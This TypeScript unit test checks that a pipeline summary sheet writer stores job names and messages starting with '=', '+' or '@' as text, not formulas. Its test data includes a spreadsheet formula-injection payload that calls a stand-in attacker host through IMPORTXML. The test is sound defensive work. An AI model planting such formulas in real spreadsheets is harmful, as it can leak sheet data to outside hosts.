/** The summary tab's writers on the TypeScript sources, against the emulator's sheet. */
import { Emulator } from '../../emulator';
import { writeRunStatus } from '../../src/sheets/summary-sheet';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

test('the last-run line keeps a message or job name that starts with "=" as text', () => {
  const emu = new Emulator();
  const sheet = emu.book.insertSheet('Pipeline Summary');
  const message = '=IMPORTXML("http://evil.example","//a")';
  writeRunStatus(sheet as unknown as Sheet, {
    job: '+1 job',
    started: '@now',
    durationMs: 1500,
    result: 'Failed',
    message,
  });
  expect(
    sheet
      .getRange(2, 1, 1, 7)
      .getFormulas()
      .flat()
      .filter((f) => f !== ''),
  ).toEqual([]);
  expect(sheet.getRange(2, 1, 1, 7).getValues()[0]).toEqual([
    'Last run',
    '+1 job',
    '@now',
    '1.5 s',
    'Failed',
    message,
    '',
  ]);
});
